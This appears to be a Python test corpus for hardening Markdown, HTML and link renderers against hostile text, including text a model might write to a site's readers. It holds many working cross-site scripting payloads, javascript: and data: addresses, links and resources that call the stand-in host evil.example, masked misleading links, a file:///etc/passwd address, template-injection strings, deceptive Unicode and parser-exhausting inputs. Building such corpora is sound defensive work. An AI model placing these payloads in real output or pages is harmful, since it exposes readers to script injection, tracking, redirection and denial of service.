"""Text that attacks whoever shows it: each tries to set `pwned`, to open a dialog, or to reach another host.

Nothing here is meant to be believed of any one renderer: the corpus holds what has broken some
renderer of Markdown, HTML or links, so that a change of ours is tried against all of it.
"""

import itertools
from collections.abc import Iterator

ELSEWHERE = "evil.example"
JS = "window.pwned=1;alert(1)"

MARKUP = [
    f"<script>{JS}</script>",
    f"<ScRiPt\n>{JS}</sCrIpT\t>",
    f"</script><script src=https://{ELSEWHERE}/x.js></script>",
    f"<img src=x onerror='{JS}'>",
    f'<img src="https://{ELSEWHERE}/pixel.png">',
    f"<svg onload={JS}><animate onbegin={JS} attributeName=x dur=1s></svg>",
    f"<svg><script href=data:,{JS} /></svg>",
    f'<svg><use href="data:image/svg+xml,<svg id=x onload={JS}>#x"></use></svg>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{JS}">',
    f'<math href="javascript:{JS}">click</math>',
    f'<iframe srcdoc="<script>parent.{JS}</script>"></iframe>',
    f"<iframe src=javascript:{JS}></iframe><object data=javascript:{JS}><embed src=javascript:{JS}>",
    f'<a href="javascript:{JS}" autofocus onfocus={JS} tabindex=1>x</a>',
    f"<details open ontoggle={JS}><summary>x</summary></details>",
    f"<video><source onerror={JS}></video><audio src=x onerror={JS}>",
    f"<body onload={JS}><input autofocus onfocus={JS}><marquee onstart={JS}>",
    f'<form action=https://{ELSEWHERE}/><input name=attributes><button formaction="javascript:{JS}">x</form>',
    f"<meta http-equiv=refresh content='0;url=https://{ELSEWHERE}/'><base href=https://{ELSEWHERE}/>",
    f"<link rel=stylesheet href=https://{ELSEWHERE}/x.css><link rel=prefetch href=https://{ELSEWHERE}/>",
    f"<style>@import url(https://{ELSEWHERE}/x.css);*{{background:url(https://{ELSEWHERE}/bg);display:none!important}}</style>",
    f"<div style='position:fixed;inset:0;z-index:99999;background:url(https://{ELSEWHERE}/bg)'>over all</div>",
    f'<template shadowrootmode="open"><script>{JS}</script></template><slot></slot>',
    f"<chatkit-widget api-base=https://{ELSEWHERE}/ open></chatkit-widget>",
    f'<noscript><p title="</noscript><img src=x onerror={JS}>"></noscript>',
    f"<!--><img src=x onerror={JS}>--><![CDATA[<script>{JS}</script>]]>",
    f"<x-y is=script onclick={JS} popover>x</x-y><dialog open>x</dialog>",
    "<a id=location><a id=document name=cookie><form id=chatkit-widget><img name=currentScript>",
    f"&lt;img src=x onerror={JS}&gt; &#60;script&#62;{JS}&#60;/script&#62;",
    f"{{{{constructor.constructor('{JS}')()}}}} ${{{JS}}} <%= {JS} %> {{% import os %}} {{{{7*7}}}}",
    f"import X from 'https://{ELSEWHERE}/x.js'\n\n<X onLoad={{() => {{{JS}}}}} />",
    f"<X dangerouslySetInnerHTML={{{{__html: '<img src=x onerror={JS}>'}}}} />",
]
ADDRESSES = [
    f"javascript:{JS}",
    f"JaVaScRiPt:{JS}",
    f" \t javascript:{JS}",
    f"java\tscript:{JS}",
    f"\x01javascript:{JS}",
    f"javascript&colon;{JS}",
    f"&#106;avascript&#58;{JS}",
    f"&#x6A&#x61;vascript:{JS}",
    f"javascript%3A{JS}",
    f"javascript:%2F%2F%0A{JS}",
    f"javascript:https://{ELSEWHERE}/%0A{JS}",
    f"\ufeffjavascript:{JS}",
    f"jav\u0430script:{JS}",
    f"vbscript:{JS}",
    f"data:text/html,<script>{JS}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg onload={JS}>",
    f"blob:https://{ELSEWHERE}/1",
    "file:///etc/passwd",
    f"view-source:https://{ELSEWHERE}/",
    f"filesystem:https://{ELSEWHERE}/x",
    "intent://x#Intent;scheme=http;end",
    f"mailto:x@{ELSEWHERE}?body={JS}",
    f"//{ELSEWHERE}/",
    f"\\\\{ELSEWHERE}\\",
    f"https:{ELSEWHERE}/",
    f"https://127.0.0.1@{ELSEWHERE}/",
    f"https://{ELSEWHERE}/'onmouseover='{JS}",
    f'https://{ELSEWHERE}/"onmouseover="{JS}',
    f"#<img src=x onerror={JS}>",
    "#__proto__",
    "?__proto__[pwned]=1",
]
# In each of these an address stands as a link or an image.
LINKS = (
    "[{0}](<{0}>)",
    "[text]({0})",
    "![text]({0})",
    "<{0}>",
    '[text]({0} "onclick={0}")',
    "[text][ref]\n\n[ref]: {0}",
)
# Links that name the site, or a page of it, and lead elsewhere.
MASKS = [
    f"[{{site}}/guide/accounts](https://{ELSEWHERE}/guide/accounts)",
    f"[Accounts]({{site}}@{ELSEWHERE}/guide/accounts) {{site}}@{ELSEWHERE}/guide/accounts",
    f"[Accounts]({{site}}.{ELSEWHERE}/guide/accounts) <{{site}}.{ELSEWHERE}/guide/accounts>",
    f"[Accounts](/\\{ELSEWHERE}/guide/accounts) [Accounts](/\t/{ELSEWHERE}/guide/accounts)",
    f"[Accounts](/guide/accounts#a@{ELSEWHERE}) [Accounts](/guide/accounts [here](https://{ELSEWHERE}/))",
    f"[![Accounts](https://{ELSEWHERE}/pixel.png)](/guide/accounts)",
    f"A session ends [1](https://{ELSEWHERE}/guide/accounts).\n\n[1]: https://{ELSEWHERE}/ 'Accounts'",
    f'<a href="https://{ELSEWHERE}/" title="{{site}}/guide/accounts">{{site}}/guide/accounts</a>',
]
NAMES = ["location", "document", "cookie", "__proto__", "constructor", "toString", "querySelector", "chatkit-widget"]
DIRECTIONS = [
    "\u202egnp.exe\u202c",
    "\u2066\u2067\u2068 never closed",
    "\u200b\u200c\u200d\ufeff",
    "invoice\u202efdp.exe",
    "\u0489" * 200,
    "Z" + "\u0335\u0321\u0338" * 300,
    "\ufff9\ufffa\ufffb\U000e0041\U000e0042",
    "\x07\x1b[2J\x1b]0;pwned\x07\x9b31m",
    "\U0001f469\u200d" * 200,
]
# Nesting and repetition on which parsers run out of stack or of time.
ENDLESS = [
    "[" * 4000,
    "[" * 2000 + "x" + "](y)" * 2000,
    "![" * 3000,
    "*" * 4000 + "x",
    "*a " * 3000,
    "**a *b " * 1500,
    "_a_" * 3000,
    "a**b" + "c* " * 3000,
    "`" * 4000,
    "`a``b```c" * 1000,
    "> " * 3000 + "x",
    "- " * 3000 + "x",
    "\n".join("  " * depth + "- x" for depth in range(100)),
    "\n".join(f"{number}. x" for number in range(900)),
    "1234567890. x",
    "999999999. x",
    "#" * 4000 + " x",
    "|" * 4000 + "\n" + "|-" * 2000 + "|\n" + "|" * 4000,
    "|" + "a|" * 300 + "\n|" + "-|" * 300 + "\n" + ("|" + "<b>|" * 300 + "\n") * 10,
    "```" * 1500,
    "```html\n<script>window.pwned=1</script>\n" * 200,
    "\\" * 4000,
    "<" * 4000,
    "&" + "amp;" * 1500,
    "a" * 8000,
    "\n" * 4000,
    "\r" * 4000,
    " " * 4000 + "x",
    '[a](b "' + "c " * 3000,
    "[a](<" + "b" * 4000,
]


def links() -> Iterator[str]:
    """Yield every address in a way of linking, and every way with some address."""
    for address, form in zip(ADDRESSES, itertools.cycle(LINKS), strict=False):
        yield form.format(address)
    for form in LINKS:
        yield form.format(ADDRESSES[0])
        yield form.format(ADDRESSES[14])


def texts() -> list[str]:
    """Return every text of the corpus."""
    headed = [f"# {name} {{#{name}}}" for name in NAMES]
    return [*MARKUP, *links(), *headed, *DIRECTIONS, *ENDLESS]


def answers(site: str) -> list[str]:
    """Return what a model may write to the readers of a site."""
    return [*MARKUP, *links(), *(mask.replace("{site}", site) for mask in MASKS)]


def titles() -> list[str]:
    """Return texts short enough for a title, on one line."""
    lines = [" ".join(text.split()) for text in [*MARKUP, *ADDRESSES, *NAMES, *DIRECTIONS]]
    return [line[:200] for line in lines if line]
